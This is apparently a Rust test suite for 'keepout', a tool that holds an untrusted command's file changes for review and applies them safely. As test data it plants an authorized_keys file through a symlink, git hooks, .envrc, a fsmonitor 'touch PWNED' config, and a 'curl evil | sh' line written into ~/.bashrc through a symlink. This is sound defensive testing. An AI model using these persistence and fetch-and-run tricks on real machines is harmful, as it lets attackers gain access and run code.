//! `keepout run --review`: the real tree stays byte for byte as it was; `keepout review apply`
//! reproduces what the code did, never writing through a symlink; as root and as an
//! unprivileged user.

use super::harness::*;

/// Every entry under a directory: path, type, mode, link target or content hash, one per line
/// (what "byte for byte the same tree" means here; times aside).
const MANIFEST_PY: &str = r#"
import hashlib, os, stat, sys
root = sys.argv[1]
skip = set(sys.argv[2:])
out = []
for dirpath, dirnames, filenames in os.walk(root):
    dirnames.sort()
    for name in sorted(dirnames + filenames):
        p = os.path.join(dirpath, name)
        rel = os.path.relpath(p, root)
        if any(rel == s or rel.startswith(s + "/") for s in skip):
            continue
        st = os.lstat(p)
        mode = oct(stat.S_IMODE(st.st_mode))
        if stat.S_ISLNK(st.st_mode):
            out.append(f"{rel} link {os.readlink(p)}")
        elif stat.S_ISDIR(st.st_mode):
            out.append(f"{rel} dir {mode}")
        else:
            h = hashlib.sha256(open(p, "rb").read()).hexdigest()[:16]
            out.append(f"{rel} file {mode} {h}")
print("\n".join(out))
"#;

/// What untrusted code does to the tree: additions, changes (one in a read-only directory, which
/// apply, replacing by rename, must open and close again), deletions, a rename, mode changes, a
/// new symlink, a directory replaced whole, and a symlink of the real tree (to a directory
/// outside the project) replaced by a directory with a file in it; plus git hooks and .envrc.
const CHANGES_SH: &str = "set -e
echo more >> a.txt
echo more >> locked/f
rm b.txt
echo new > c.txt
chmod +x c.txt
chmod -x run.sh
mv d/x d/x2
rm -r gone
mkdir gone
echo z > gone/z
ln -s ../a.txt d/l
rm outside-link
mkdir outside-link
echo pwned > outside-link/authorized_keys
echo hook > .git/hooks/pre-commit
echo 'echo planted' > .envrc
";

fn manifest(fx: &Fixture, dir: &std::path::Path, skip: &[&str]) -> String {
    let py = fx.root.join("manifest.py");
    if !py.exists() {
        write_file(&py, MANIFEST_PY, 0o755);
    }
    let mut script = format!(
        "{PYTHON} {} {}",
        q(py.display().to_string()),
        q(dir.display().to_string())
    );
    for s in skip {
        script.push(' ');
        script.push_str(&q(s));
    }
    let out = fx.outside(&script);
    assert!(out.success(), "[{}] manifest:{out}", fx.runner);
    out.stdout
}

/// The tree before the changes, in `dir`; `outside-link` points at `target`.
fn plant_tree(fx: &Fixture, dir: &std::path::Path, target: &std::path::Path) {
    let out = fx.outside(&format!(
        "set -e; cd {}; printf 'a\\n' > a.txt; printf 'b\\n' > b.txt; printf '#!/bin/sh\\n' > run.sh; \
         chmod 755 run.sh; mkdir -p d gone/sub; echo x > d/x; echo y > gone/sub/y; \
         mkdir locked; echo l > locked/f; chmod 555 locked; \
         ln -s {} outside-link",
        q(dir.display().to_string()),
        q(target.display().to_string())
    ));
    assert!(out.success(), "[{}] plant:{out}", fx.runner);
}

#[test]
fn review_keeps_the_tree_and_apply_reproduces_the_run() {
    for r in runners() {
        let fx = Fixture::new(&r);
        // The symlink's target: a directory outside the project that must never be written.
        let ssh = fx.mkdir("victim-ssh");
        plant_tree(&fx, &fx.project, &ssh);
        let direct = fx.mkdir("direct");
        let copy = fx.outside(&format!("cp -a . {}", q(direct.display().to_string())));
        assert!(copy.success(), "[{r}] copy:{copy}");
        let before = manifest(&fx, &fx.project, &[]);

        // The attack works without keepout: run directly in a copy whose link points at a
        // second victim directory, a naive "copy the changes over" writes through the link.
        let naive_victim = fx.mkdir("naive-victim");
        let naive = fx.mkdir("naive");
        plant_tree(&fx, &naive, &naive_victim);
        let out = fx.outside(&format!(
            "cd {} && mkdir -p /tmp/keepout-naive-$$ && echo pwned > /tmp/keepout-naive-$$/authorized_keys \
             && cp -r /tmp/keepout-naive-$$/. outside-link/ && rm -r /tmp/keepout-naive-$$",
            q(naive.display().to_string())
        ));
        assert!(out.success(), "[{r}] naive:{out}");
        assert!(
            naive_victim.join("authorized_keys").exists(),
            "[{r}] a naive copy writes through the symlink"
        );

        let run = fx.keepout(&["run", "--review", "--", "sh", "-c", CHANGES_SH]);
        assert!(run.success(), "[{r}] run --review:{run}");
        assert!(
            run.stderr.contains("nothing was written to your tree"),
            "[{r}] says so, without a terminal:{run}"
        );
        assert_eq!(
            manifest(&fx, &fx.project, &[]),
            before,
            "[{r}] the real tree is byte for byte unchanged"
        );

        let show = fx.keepout(&["review", "--json"]);
        let changes: serde_json::Value = serde_json::from_str(&show.stdout).unwrap();
        let has = |path: &str, kind: &str| {
            changes
                .as_array()
                .unwrap()
                .iter()
                .any(|c| c["path"] == path && c["kind"] == kind)
        };
        for (path, kind) in [
            ("a.txt", "modified"),
            ("locked/f", "modified"),
            ("b.txt", "deleted"),
            ("c.txt", "added"),
            ("run.sh", "modified"),
            ("d/x", "deleted"),
            ("d/x2", "added"),
            ("d/l", "added"),
            ("gone/sub", "deleted"),
            ("outside-link", "modified"),
            (".envrc", "added"),
        ] {
            assert!(has(path, kind), "[{r}] {path} {kind} in {changes}");
        }
        // Risky first: git hooks and .envrc lead the list.
        assert!(
            changes[0]["risk"].is_string() && changes[1]["risk"].is_string(),
            "[{r}] {changes}"
        );

        // The same changes made directly, for comparison.
        let mut direct_script = format!("cd {} && ", q(direct.display().to_string()));
        direct_script.push_str(&CHANGES_SH.replace("set -e\n", "").replace('\n', " && "));
        direct_script.push_str(" true");
        let out = fx.outside(&direct_script);
        assert!(out.success(), "[{r}] direct:{out}");

        let apply = fx.keepout(&["review", "apply"]);
        assert!(apply.success(), "[{r}] apply:{apply}");
        assert!(
            apply.stderr.contains("left alone: .envrc"),
            "[{r}] .envrc left alone:{apply}"
        );
        let skip = [".git", ".envrc"];
        assert_eq!(
            manifest(&fx, &fx.project, &skip),
            manifest(&fx, &direct, &skip),
            "[{r}] apply reproduces exactly what the code did"
        );
        assert!(
            std::fs::read_dir(&ssh).unwrap().next().is_none(),
            "[{r}] nothing written through the replaced symlink"
        );
        assert!(
            !fx.project.join(".git/hooks/pre-commit").exists()
                && !fx.project.join(".envrc").exists(),
            "[{r}] hooks and .envrc left alone"
        );
        let gone = fx.keepout(&["review"]);
        assert!(!gone.success(), "[{r}] an applied review is gone:{gone}");

        // --include-git applies them; a run that changes nothing keeps no review.
        let envrc = fx.keepout(&[
            "run",
            "--review",
            "--",
            "sh",
            "-c",
            "echo 'echo ok' > .envrc",
        ]);
        assert!(envrc.success(), "[{r}] {envrc}");
        let apply = fx.keepout(&["review", "apply", "--include-git"]);
        assert!(apply.success(), "[{r}] {apply}");
        assert_eq!(
            read(&fx.project.join(".envrc")).as_deref(),
            Some("echo ok\n"),
            "[{r}]"
        );
        // Your own edit after the run is never overwritten silently.
        let run = fx.keepout(&[
            "run",
            "--review",
            "--",
            "sh",
            "-c",
            "echo from-the-run > a.txt",
        ]);
        assert!(run.success(), "[{r}] {run}");
        let edit = fx.outside("echo my-edit > a.txt");
        assert!(edit.success(), "[{r}] {edit}");
        let refused = fx.keepout(&["review", "apply"]);
        assert!(
            !refused.success() && refused.stderr.contains("changed since the run at a.txt"),
            "[{r}] a conflict is refused and named:{refused}"
        );
        assert_eq!(
            read(&fx.project.join("a.txt")).as_deref(),
            Some("my-edit\n"),
            "[{r}]"
        );
        let forced = fx.keepout(&["review", "apply", "--force"]);
        assert!(forced.success(), "[{r}] {forced}");
        assert_eq!(
            read(&fx.project.join("a.txt")).as_deref(),
            Some("from-the-run\n"),
            "[{r}]"
        );

        let nothing = fx.keepout(&["run", "--review", "--", "cat", "a.txt"]);
        assert!(
            nothing.stderr.contains("changed nothing"),
            "[{r}] nothing changed:{nothing}"
        );
        let list = fx.keepout(&["review", "list"]);
        assert!(list.stdout.contains("no reviews kept"), "[{r}] {list}");
        // The read-only directories go with the fixture.
        fx.outside(&format!(
            "chmod -R u+w {}",
            q(fx.root.display().to_string())
        ));
    }
}

/// A terminal of its own for `argv`, answering `answer` once `prompt` shows (python's pty: a
/// person typing after reading, not input queued before the run).
const ANSWER_PY: &str = r#"
import os, pty, select, sys
prompt, answer, argv = sys.argv[1].encode(), sys.argv[2].encode(), sys.argv[3:]
pid, fd = pty.fork()
if pid == 0:
    os.execvp(argv[0], argv)
out, answered = b"", False
while True:
    r, _, _ = select.select([fd], [], [], 20)
    if not r:
        break
    try:
        data = os.read(fd, 4096)
    except OSError:
        break
    if not data:
        break
    out += data
    if not answered and prompt in out:
        os.write(fd, answer + b"\n")
        answered = True
sys.stdout.write(out.decode(errors="replace"))
_, status = os.waitpid(pid, 0)
sys.exit(os.waitstatus_to_exitcode(status))
"#;

/// On a terminal, keepout asks after the run; the answer typed then is keepout's (the relay of
/// the run's terminal has stopped reading), and `a` applies.
#[test]
fn on_a_terminal_the_answer_after_the_run_applies() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let py = fx.script("answer.py", ANSWER_PY);
        let out = fx.outside(&format!(
            "{PYTHON} {py} 'Apply these changes' a {} run --review -- sh -c 'echo typed > asked.txt'",
            keepout_bin()
        ));
        assert!(out.success(), "[{r}] {out}");
        assert!(
            out.stdout.contains("applied 1 change to"),
            "[{r}] the answer reached keepout:{out}"
        );
        assert_eq!(
            read(&fx.project.join("asked.txt")).as_deref(),
            Some("typed\n"),
            "[{r}]"
        );
    }
}

/// `review apply` leaves out what runs later beyond the top-level git files: a nested
/// repository's config, a new editor file at depth, bytecode, and a new symlink out of the
/// project (what the maintainer writes to it later would land in their home). Applied
/// directly, the symlink reaches the home; `--include-symlinks` applies it on request.
#[test]
fn apply_leaves_out_nested_git_editor_files_bytecode_and_outside_symlinks() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let s = fx.outside("git init -q vendor/lib");
        assert!(s.success(), "{s}");
        let bashrc = fx.home_path(".bashrc");
        let script = format!(
            "git -C vendor/lib config core.fsmonitor 'touch PWNED'; mkdir -p sub/.vscode && echo '{{}}' > sub/.vscode/tasks.json
             mkdir -p pkg/__pycache__ && echo x > pkg/__pycache__/m.cpython-311.pyc
             ln -s {b} notes.txt && ln -s README.md readme-link && echo ok > new.txt"
            , b = q(&bashrc)
        );
        let run = fx.inside(&["--review"], &script);
        assert!(run.success(), "[{r}] the review run:{run}");
        let apply = fx.keepout(&["review", "apply"]);
        assert!(apply.success(), "[{r}] apply:{apply}");
        let p = &fx.project;
        assert!(
            p.join("new.txt").exists() && p.join("readme-link").is_symlink(),
            "[{r}] ordinary changes apply:{apply}"
        );
        assert!(
            read(&p.join("vendor/lib/.git/config")).is_some_and(|c| !c.contains("fsmonitor")),
            "[{r}] the nested config is left alone:{apply}"
        );
        assert!(
            !p.join("sub/.vscode").exists(),
            "[{r}] the editor file is left out:{apply}"
        );
        assert!(
            !p.join("pkg/__pycache__/m.cpython-311.pyc").exists(),
            "[{r}] bytecode is left out:{apply}"
        );
        assert!(
            std::fs::symlink_metadata(p.join("notes.txt")).is_err()
                && apply.stderr.contains("notes.txt")
                && apply.stderr.contains("--include-symlinks"),
            "[{r}] the symlink out of the project is left out and named:{apply}"
        );
        // Through the symlink, a later write reaches the home: what the refusal prevents.
        let run = fx.inside(&["--review"], &format!("ln -s {} notes.txt", q(&bashrc)));
        assert!(run.success(), "{run}");
        let apply = fx.keepout(&["review", "apply", "--include-symlinks"]);
        assert!(
            apply.success() && p.join("notes.txt").is_symlink(),
            "[{r}] applied on request:{apply}"
        );
        let write = fx.outside("echo 'curl evil | sh' >> notes.txt");
        assert!(
            write.success() && read(&fx.home.join(".bashrc")).is_some_and(|c| c.contains("curl evil")),
            "[{r}] a later write through the applied symlink lands in the home (proves the danger):{write}"
        );
    }
}

/// A run under review that writes `script`, kept (there is no terminal).
fn kept_review(fx: &Fixture, script: &str) {
    let run = fx.keepout(&["run", "--review", "--", "sh", "-c", script]);
    assert!(
        run.success() && run.stderr.contains("nothing was written to your tree"),
        "[{}] run --review:{run}",
        fx.runner
    );
}

/// At the prompt after the run (a real pseudo-terminal), an answer keepout does not know asks
/// again instead of meaning "keep"; end of input keeps the review and says so.
#[test]
fn an_unknown_answer_asks_again_and_end_of_input_keeps() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let run = [
            keepout_bin(),
            "run",
            "--review",
            "--",
            "sh",
            "-c",
            "echo new > new.txt",
        ];
        let out = super::pty::on_pty(
            &fx,
            &[
                ("Apply these changes", Some("yes please\n")),
                ("Apply these changes", Some("d\n")),
            ],
            &run,
        );
        assert!(out.success(), "[{r}] asked again:{out}");
        assert!(
            out.stdout.contains("\"yes please\" is not an answer here")
                && out.stdout.contains("discarded"),
            "[{r}] says so, then the second answer counts:{out}"
        );
        assert!(!fx.keepout(&["review"]).success(), "[{r}] discarded");

        let out = super::pty::on_pty(&fx, &[("Apply these changes", None)], &run);
        assert!(out.success(), "[{r}] {out}");
        assert!(
            out.stdout.contains("no answer (end of input): kept"),
            "[{r}] end of input keeps, and says so:{out}"
        );
        let kept = fx.keepout(&["review"]);
        assert!(
            kept.success() && kept.stdout.contains("A new.txt"),
            "[{r}] kept:{kept}"
        );
        assert!(
            !fx.project.join("new.txt").exists(),
            "[{r}] nothing applied"
        );
    }
}

/// `review diff` on a terminal goes through the pager git would use (here GIT_PAGER, which
/// marks each line), all of it in one pager (git run per file started one per file); piped, no
/// pager.
#[test]
fn the_diff_uses_the_pager_on_a_terminal_only() {
    for r in runners() {
        let fx = Fixture::new(&r);
        kept_review(&fx, "echo changed >> README.md; echo new > new.txt");
        let pager = "GIT_PAGER=echo PAGER-STARTS; sed s/^/PAGED:/";
        let out = super::pty::on_pty(&fx, &[], &["env", pager, keepout_bin(), "review", "diff"]);
        assert!(out.success(), "[{r}] {out}");
        assert!(
            out.stdout.contains("PAGED:+changed") && out.stdout.contains("PAGED:+new"),
            "[{r}] through the pager, both files:{out}"
        );
        assert_eq!(
            out.stdout.matches("PAGER-STARTS").count(),
            1,
            "[{r}] one pager for the whole diff, not one per file:{out}"
        );
        let piped = fx.outside(&format!(
            "GIT_PAGER='sed s/^/PAGED:/' {} review diff | cat",
            keepout_bin()
        ));
        assert!(
            piped.success()
                && piped.stdout.contains("+changed")
                && !piped.stdout.contains("PAGED:"),
            "[{r}] no pager into a pipe:{piped}"
        );
    }
}

/// The summary groups what a test run leaves in cache directories and in directories your
/// `.gitignore` ignores, one line per directory with its count; the risky ones among them (a
/// `.pth`, an executable, a symlink) are still named one by one; `--json` lists everything.
#[test]
fn cache_and_ignored_directories_are_one_line_each() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let ignore = fx.outside(
            "printf 'build/\\n.hypothesis/\\n' > .gitignore && git add .gitignore && git commit -qm ignore",
        );
        assert!(ignore.success(), "[{r}] {ignore}");
        kept_review(
            &fx,
            "set -e; mkdir -p .hypothesis/examples pkg/__pycache__ build/lib node_modules/x
             for i in $(seq 87); do echo $i > .hypothesis/examples/e$i; done
             echo a > pkg/__pycache__/a.cpython-311.pyc; echo b > pkg/__pycache__/b.cpython-311.pyc
             echo x > build/lib/x.txt; echo y > build/lib/y.txt
             echo 'import os' > build/lib/evil.pth
             printf '#!/bin/sh\\n' > build/tool.sh; chmod +x build/tool.sh
             ln -s /etc/passwd node_modules/x/link; echo m > node_modules/x/index.js
             echo plain > plain.txt",
        );
        let out = fx.keepout(&["review"]);
        assert!(out.success(), "[{r}] {out}");
        for line in [
            "  A .hypothesis/  (87 files, ignored)",
            "  A pkg/__pycache__/  (2 files, cache)",
            "  A build/  (2 files, ignored)",
            "  A node_modules/  (1 file, cache)",
            "  A build/lib/evil.pth",
            "  A build/tool.sh",
            "  A node_modules/x/link -> /etc/passwd",
            "  A plain.txt",
        ] {
            assert!(
                out.stdout.lines().any(|l| l.starts_with(line)),
                "[{r}] {line:?}:{out}"
            );
        }
        assert!(
            !out.stdout.contains("e17"),
            "[{r}] no single cache file:{out}"
        );
        assert!(out.stdout.lines().count() < 15, "[{r}] short:{out}");
        let json = fx.keepout(&["review", "--json"]);
        let all: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
        assert!(
            all.as_array().unwrap().len() > 87 + 10,
            "[{r}] --json has all:{json}"
        );
    }
}

/// `cmd 2>FILE; echo $? >FILE` piped into `head -1`: (exit status, stderr).
fn into_head(fx: &Fixture, cmd: &str) -> (String, String) {
    let err = fx.root.join("head.err");
    let rc = fx.root.join("head.rc");
    let out = fx.outside(&format!(
        "({cmd} 2>{}; echo $? >{}) | head -1 >/dev/null",
        q(err.display().to_string()),
        q(rc.display().to_string())
    ));
    assert!(out.success(), "[{}] {out}", fx.runner);
    (
        read(&rc).unwrap_or_default().trim().to_string(),
        read(&err).unwrap_or_default(),
    )
}

/// `keepout review | head -1` and `keepout workspace list | head -1`, each with more output
/// than a pipe holds, end quietly: no panic, no error, status 0 (or 141, killed by SIGPIPE).
#[test]
fn a_closed_pipe_ends_listings_quietly() {
    for r in runners() {
        let fx = Fixture::new(&r);
        kept_review(
            &fx,
            "mkdir data; cd data; seq -f 'file-with-a-long-name-%05g' 4000 | xargs touch",
        );
        let (rc, err) = into_head(&fx, &format!("{} review", keepout_bin()));
        assert!(
            (rc == "0" || rc == "141") && !err.contains("panicked") && err.is_empty(),
            "[{r}] review | head -1: exit {rc}, stderr {err:?}"
        );
        // Many workspaces, written as keepout writes them (format 1), each with a long source.
        let store = fx.home.join(".local/share/keepout/workspaces");
        for i in 0..300 {
            let name = format!("w{i:03}");
            write_file(
                &store.join(&name).join("meta.toml"),
                &format!(
                    "version = 1\nname = \"{name}\"\nsource = \"/src/{}\"\nproject = \"p\"\ncreated = 0\nlast_used = 0\n",
                    "x".repeat(200)
                ),
                0o644,
            );
            std::fs::create_dir_all(store.join(&name).join("home")).unwrap();
        }
        fx.give_to_runner(&fx.home.join(".local"));
        let (rc, err) = into_head(&fx, &format!("{} workspace list", keepout_bin()));
        assert!(
            (rc == "0" || rc == "141") && !err.contains("panicked") && err.is_empty(),
            "[{r}] workspace list | head -1: exit {rc}, stderr {err:?}"
        );
    }
}
